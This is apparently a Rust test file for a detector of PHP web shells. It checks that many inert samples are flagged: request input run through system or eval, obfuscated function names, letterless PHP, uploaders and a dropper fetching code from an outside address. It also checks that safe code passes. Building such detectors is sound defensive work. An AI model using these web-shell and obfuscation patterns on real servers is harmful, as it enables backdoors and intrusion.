//! The mechanisms, each on an inert sample, and what must not be one.

use super::{Limits, PhpDetector, analyse};
use crate::detect::testing::Scene;
use crate::detect::{Detector, Detectors, Report, RuleSet, RuleSource, YaraDetector, YaraOptions};
use crate::model::{Evidence, EvidencePath, FileKind, FileMeta, Finding, Mode, Severity};
use crate::sweep::Swept;
use proptest::prelude::*;

fn report(content: &[u8]) -> Report {
    let path = EvidencePath::new("/var/www/html/x.php").unwrap();
    let meta = FileMeta::bare(FileKind::File, Mode::new(0o644), content.len() as u64);
    let mut report = Report::default();
    let swept = Swept { path: &path, meta: &meta, sha256: None, content: Some(content) };
    PhpDetector::default().inspect(&swept, &mut report);
    report
}

fn scan(content: &str) -> Vec<Finding> {
    report(content.as_bytes()).findings
}

/// The rules that hit at `high` or above. Samples end before they begin, so every hit must say that it is unreachable.
fn grave(code: &str) -> Vec<String> {
    let findings = scan(&format!("<?php exit; // inert\n{code}\n"));
    let grave = findings.iter().filter(|finding| finding.severity >= Severity::High);
    grave.map(|finding| finding.rule.0.clone()).collect()
}

#[track_caller]
pub(super) fn hits(rule: &str, code: &str) {
    let found = grave(code);
    assert!(found.iter().any(|id| id == rule), "{rule} is not among {found:?} for {code}");
}

#[track_caller]
pub(super) fn passes(code: &str) {
    assert_eq!(grave(code), Vec::<String>::new(), "{code}");
}

#[test]
fn request_input_that_reaches_a_command_is_found_on_every_way() {
    for code in [
        "system($_GET['c']);",
        "echo `{$_POST['c']}`;",
        "$a = $_REQUEST['c']; $b = trim($a); passthru($b . ' 2>&1');",
        "function run($x) { return shell_exec($x); } echo run($_COOKIE['c']);",
        "class A { public $c; function __construct() { $this->c = $_POST['c']; } function go() { exec($this->c); } } (new A)->go();",
        "$f = function ($x) { system($x); }; $f($_GET['c']);",
        "foreach ($_POST as $k => $v) { popen($v, 'r'); }",
        "$h = getallheaders(); system($h['X-Run']);",
        "system(file_get_contents('php://input'));",
        "extract($_GET); system($cmd);",
        "foreach ($_GET as $k => $v) $$k = $v; system($cmd);",
        "array_map('system', $_GET);",
        "usort($_GET, 'system');",
        "\\system($_GET['c']);",
        "SyStEm/* x */(/* y */$_GET{'c'});",
    ] {
        hits("TR-PHP-0101", code);
    }
}

#[test]
fn request_input_that_is_run_as_code_is_found_on_every_way() {
    for code in [
        "@eval($_POST['c']);",
        "@eval(base64_decode($_POST['c']));",
        "assert($_REQUEST['c']);",
        "$f = create_function('', $_POST['c']); $f();",
        "preg_replace('/.*/e', $_POST['c'], '');",
        "eval('?>' . $_POST['c']);",
        "$x = ['a' => $_POST]; eval($x['a']['c']);",
        "$s = $_SERVER['HTTP_USER_AGENT']; eval(strrev($s));",
    ] {
        hits("TR-PHP-0102", code);
    }
}

#[test]
fn a_function_that_the_request_chooses_is_found() {
    hits("TR-PHP-0103", "$_GET['f']($_POST['x']);");
    hits("TR-PHP-0103", "call_user_func($_GET['f'], $_GET['x']);");
    hits("TR-PHP-0103", "array_filter([$_POST['x']], $_GET['f']);");
    hits("TR-PHP-0103", "(new ReflectionFunction($_GET['f']))->invoke($_GET['x']);");
}

#[test]
fn hidden_code_is_unrolled_layer_by_layer() {
    let inner = "system($_GET['c']);";
    let encode = |text: &str| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(text)
    };
    let once = format!("eval(base64_decode('{}'));", encode(inner));
    let twice = format!("eval(str_rot13(base64_decode('{}')));", encode(&rot13(&once)));
    let findings = scan(&format!("<?php exit;\n{twice}"));
    let rules: Vec<&str> = findings.iter().map(|finding| finding.rule.0.as_str()).collect();
    assert!(rules.contains(&"TR-PHP-0201") && rules.contains(&"TR-PHP-0101"), "{rules:?}");
    let shell = findings.iter().find(|finding| finding.rule.0 == "TR-PHP-0101").unwrap();
    let text = serde_json::to_string(&shell.evidence).unwrap();
    assert!(text.contains("layer 2") && text.contains("unreachable"), "{text}");
}

fn rot13(text: &str) -> String {
    let turn = |c: char, base: u8| char::from((c as u8 - base + 13) % 26 + base);
    text.chars()
        .map(|c| match c {
            'a'..='z' => turn(c, b'a'),
            'A'..='Z' => turn(c, b'A'),
            c => c,
        })
        .collect()
}

#[test]
fn names_that_are_hidden_are_folded() {
    for code in [
        "$f = 'sys' . 'tem'; $f('id');",
        "$f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('id');",
        "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('id');",
        "$f = strrev('metsys'); $f('id');",
        "$f = str_replace('#', '', 's#y#s#t#em'); $f('id');",
        "$f = implode('', array_map('chr', [115, 121, 115, 116, 101, 109])); $f('id');",
        "$a = 'etmsy'; $f = $a[3].$a[4].$a[3].$a[1].$a[0].$a[2]; $f('id');",
        "${'GLOB'.'ALS'}['f'] = base64_decode('c3lzdGVt'); $GLOBALS['f']('id');",
        "$f = 'rxru`l' ^ \"\\x01\\x01\\x01\\x01\\x05\\x01\"; $f('id');",
        "function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) - 1); } return $o; } $f = d('tztufn'); $f('id');",
        "$x = 'a'; for ($i = 0; $i < 18; $i++) { $x++; } $f = $x . 'ystem'; $f('id');",
    ] {
        hits("TR-PHP-0203", code);
    }
}

#[test]
fn goto_is_followed() {
    hits("TR-PHP-0203", "goto b; a: $f .= 'tem'; goto c; b: $f = 'sys'; goto a; c: $f('id');");
}

#[test]
fn code_without_letters_is_found() {
    let code = "<?php $_=[];$_=@\"$_\";$_=$_['!'==''];$__=$_;$__++;$__++;$___=$_.$__;$____='_'.$___;$_____=$$____;$_($_____[_]);";
    let rules: Vec<String> = scan(code).into_iter().map(|finding| finding.rule.0).collect();
    assert!(rules.iter().any(|rule| rule == "TR-PHP-0204"), "{rules:?}");
}

#[test]
fn uploaders_and_droppers_are_found() {
    hits("TR-PHP-0106", "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);");
    hits("TR-PHP-0105", "file_put_contents($_POST['f'], $_POST['d']);");
    hits("TR-PHP-0112", "file_put_contents('/var/www/html/a.php', file_get_contents('http://192.0.2.1/a.txt'));");
    hits("TR-PHP-0101", "file_put_contents('b.php', '<?php system($_GET[1]);');");
}

#[test]
fn data_of_pictures_and_of_the_file_itself_is_code_when_it_runs() {
    hits("TR-PHP-0109", "$e = exif_read_data('logo.jpg'); eval($e['Model']);");
    hits("TR-PHP-0109", "/** x */ class A {} eval((new ReflectionClass('A'))->getDocComment());");
    hits("TR-PHP-0206", "include '/var/www/html/images/logo.png';");
}

#[test]
fn a_shell_of_many_powers_is_one_finding() {
    hits(
        "TR-PHP-0301",
        "$d = $_GET['d']; foreach (scandir($d) as $f) echo $f; unlink($_GET['x']); rename($_GET['a'], $_GET['b']);
         file_put_contents($_GET['w'], $_POST['t']); readfile($_GET['r']); chmod($_GET['m'], 0777); system($_POST['c']);",
    );
}

#[test]
fn old_php_lets_the_request_set_what_nobody_sets() {
    hits("TR-PHP-0101", "if (!empty($command)) { if ($x) $command .= ' -F'; system($command); }");
}

#[test]
fn what_was_checked_or_is_only_a_part_is_no_shell() {
    for code in [
        "system('/usr/bin/ping -c 1 ' . escapeshellarg($_GET['host']));",
        "exec('/usr/sbin/asterisk -rx ' . $_GET['c']);",
        "if (in_array($_GET['c'], ['start', 'stop'])) { exec($_GET['c']); }",
        "$n = (int) $_GET['n']; system($n);",
        "switch ($_GET['a']) { case 'ls': system('ls'); break; }",
        "$all = ['a' => 'ls', 'b' => 'df']; system($all[$_GET['a']]);",
        "include 'pages/' . basename($_GET['p']) . '.php';",
        "$f = 'action_' . $_GET['a']; $f();",
        "eval('function __autoload($c) { load($c); }');",
        "echo htmlspecialchars($_GET['q']);",
        "$stmt = $pdo->query('select 1'); $stmt->execute($_POST);",
        "echo base64_decode('PGh0bWw+');",
        "$x = preg_replace('/a/', 'b', $_GET['x']); echo $x;",
        "assert(is_array($_POST));",
        "assert($x instanceof Y);",
    ] {
        passes(code);
    }
}

#[test]
fn what_a_command_line_gives_is_no_order_of_a_request() {
    passes("system($argv[1]); exec($argc);");
    passes("$line = fgets(fopen('php://stdin', 'r')); call_user_func($line, $line);");
}

#[test]
fn library_code_is_passed_over() {
    let library = "<?php\nnamespace A\\B;\nclass C extends D {\n  public function e(array $f) { return array_merge($f, []); }\n}\n";
    assert!(!super::gate::is_worth_it(library.as_bytes()));
    assert!(!super::gate::is_worth_it(b"\x7fELF system($_GET)"));
}

#[test]
fn encoded_files_are_named_and_not_accused() {
    let findings = scan("<?php exit; if (!extension_loaded('ionCube Loader')) { die(); } _il_exec(); ?>\nHR+cPabcdef");
    let found: Vec<_> = findings.iter().map(|finding| (finding.rule.0.as_str(), finding.severity)).collect();
    assert_eq!(found, [("TR-PHP-0501", Severity::Info)]);
}

#[test]
fn a_scene_without_shells_stays_silent() {
    let scene = Scene::new().file("/var/www/html/admin/page.php", "<?php echo $_GET['display'];");
    assert_eq!(scene.findings(), []);
}

#[test]
fn a_rule_that_only_matches_the_decoded_code_finds_it() {
    let rule = r#"rule inner { meta: id = "T-0001" strings: $a = "needle-in-a-layer" condition: $a }"#;
    let source = RuleSource { name: "t.yar".into(), text: rule.into() };
    let yara = YaraDetector::new(RuleSet::compile(&[source]).0, YaraOptions::default());
    // `$x = 'needle-in-a-layer';`, twice encoded
    let content = "<?php exit;\neval(base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCdKSGdnUFNBbmJtVmxaR3hsTFdsdUxXRXRiR0Y1WlhJbk93PT0nKSk7'));";
    let scene = Scene::new().file("/var/www/html/x.php", content);
    let findings = scene.findings_of(Detectors::builtin(vec![Box::new(yara)]).unwrap());
    let found = findings.iter().find(|finding| finding.rule.0 == "T-0001").unwrap();
    assert_eq!(found.subject.path().to_string(), "/var/www/html/x.php");
    let place = "decoded by line 1 of layer 1";
    assert!(found.evidence.contains(&Evidence::Attribute { name: "layer".into(), value: place.into() }), "{found:?}");
}

/// Small limits, so that a run-away walk shows as a test that does not end.
fn tight() -> Limits {
    Limits { fuel: 300_000, max_tokens: 200_000, ..Limits::default() }
}

#[test]
fn nesting_without_end_ends_within_the_budget() {
    let size = 10 * 1024 * 1024;
    for open in [
        "(", "[", "{", "\"", "'", "`", "$", "!", "-", "@", "$a[", "f(", "if(", "<<<X\n", "\"{$", "${", "?:", "fn()=>",
        "a?b:", "new ", ".",
    ] {
        let mut text = b"<?php exit; system($_GET['c']); $x=".to_vec();
        while text.len() < size {
            text.extend_from_slice(open.as_bytes());
        }
        assert!(analyse(&text, &tight()).is_some(), "{open}");
    }
}

#[test]
fn deep_blocks_and_chains_end_within_the_budget() {
    let repeat = |text: &str| text.repeat(50_000);
    for code in [
        repeat("if(1){"),
        repeat("while(1){"),
        repeat("function f(){"),
        repeat("class A{function f(){"),
        repeat("switch(1){case 1:"),
        format!("$x=1{};", repeat("+1")),
        format!("$x='a'{};", repeat(".'a'")),
        format!("$x=$a{};", repeat("->b()")),
        format!("$x=$a{};", repeat("[0]")),
        format!("$x=1{};", repeat("?1:1")),
        format!("$x=1{};", repeat("||1")),
        format!("if(1){{}}{}", repeat("elseif(1){}")),
        "$a=[];while(1){$a=[$a,$a];}system($_GET[1]);".to_owned(),
        "$a=[1];while(1){$a=array_merge($a,$a);}".to_owned(),
        "$a='a';while(1){$a.=$a;}eval($a);".to_owned(),
        "$a='a';while(1){$a=str_repeat($a,99);}".to_owned(),
        "function f($x){return f($x.'a').f($x.'b');}f('');".to_owned(),
        "$f=function()use(&$f){$f();};$f();".to_owned(),
        "a: goto a;".to_owned(),
        "a: b: goto a; goto b;".to_owned(),
        "$x='eval($x);';eval($x);".to_owned(),
        "$x='a';while(1){$x=\"eval('$x');\";eval($x);}".to_owned(),
    ] {
        let text = format!("<?php system($_GET['c']); {code}");
        let short = text.get(..60).unwrap_or(&text);
        assert!(analyse(text.as_bytes(), &tight()).is_some(), "{short}");
    }
}

#[test]
fn a_limit_is_a_gap_and_no_finding() {
    let loops = "for ($i = 0; $i < 9999; $i++) { for ($j = 0; $j < 9999; $j++) { $x = ($x * 7 + $j) % 1000003; } }";
    let text = format!("<?php $x = 1; {loops} eval('');");
    let report = report(text.as_bytes());
    assert_eq!(report.findings, []);
    assert_eq!(report.gaps.len(), 1, "{:?}", report.gaps);
}

#[test]
fn a_bomb_unpacks_to_a_limit() {
    use base64::Engine as _;
    use std::io::Write as _;
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..64 {
        encoder.write_all(&zeros).unwrap();
    }
    let packed = base64::engine::general_purpose::STANDARD.encode(encoder.finish().unwrap());
    let text = format!("<?php exit; eval(gzinflate(base64_decode('{packed}')));");
    let analysis = analyse(text.as_bytes(), &Limits::default()).unwrap();
    assert!(analysis.layers.iter().map(|layer| layer.text.len()).sum::<usize>() <= Limits::default().max_layer_bytes);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        let mut text = b"<?php system($_GET[1]);".to_vec();
        text.extend(bytes);
        prop_assert!(analyse(&text, &tight()).is_some());
    }

    #[test]
    fn no_mixture_of_tokens_makes_it_panic(words in proptest::collection::vec(0_usize..WORDS.len(), 0..300)) {
        let mut text = b"<?php ".to_vec();
        for word in words {
            text.extend_from_slice(WORDS[word].as_bytes());
            text.push(b' ');
        }
        prop_assert!(analyse(&text, &tight()).is_some());
    }
}

const WORDS: [&str; 72] = [
    "$a",
    "$b",
    "$_GET",
    "$$a",
    "${",
    "}",
    "{",
    "(",
    ")",
    "[",
    "]",
    ";",
    ",",
    ".",
    "=",
    ".=",
    "+",
    "-",
    "*",
    "^",
    "~",
    "++",
    "??",
    "?",
    ":",
    "::",
    "->",
    "=>",
    "&&",
    "||",
    "!",
    "@",
    "&",
    "if",
    "else",
    "elseif",
    "while",
    "for",
    "foreach",
    "as",
    "switch",
    "case",
    "default",
    "function",
    "f",
    "class",
    "extends",
    "use",
    "new",
    "return",
    "break",
    "continue",
    "goto",
    "a:",
    "eval",
    "include",
    "isset",
    "list",
    "array",
    "'x'",
    "\"y{$a}\"",
    "\"\\x41$b[0]\"",
    "`z`",
    "1",
    "0x1f",
    "1.5",
    "<<<X\nq\nX;\n",
    "?>",
    "<?php",
    "match",
    "fn",
    "static",
];
